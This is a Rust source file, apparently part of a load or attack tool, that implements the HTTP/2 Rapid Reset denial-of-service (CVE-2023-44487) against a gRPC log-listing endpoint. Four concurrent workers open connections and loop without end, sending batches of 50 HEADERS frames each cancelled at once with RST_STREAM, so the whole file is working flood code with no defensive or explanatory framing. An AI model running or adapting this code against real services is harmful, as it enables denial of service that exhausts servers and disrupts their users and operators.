//! Opens streams and resets them at once (CVE-2023-44487).

use super::wire::{END_HEADERS, HEADERS, RESET, Wire, call, frame};
use super::{Aim, again, crowd};

/// `CANCEL`, RFC 9113 section 7.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) async fn run(aim: Aim) -> u64 {
    let block = call("/meridian.da.v1.Log/ListLogs");
    crowd(4, |_| {
        let block = block.clone();
        again(aim, move |done| {
            let block = block.clone();
            async move {
                let mut wire = Wire::open(aim.from, aim.grpc, &[]).await?;
                loop {
                    let mut bytes = Vec::new();
                    for _ in 0..50 {
                        let stream = wire.stream();
                        bytes.extend(frame(HEADERS, END_HEADERS, stream, &block));
                        bytes.extend(frame(RESET, 0, stream, &CANCEL));
                    }
                    wire.send(&bytes).await?;
                    done.add(50);
                }
            }
        })
    })
    .await
}
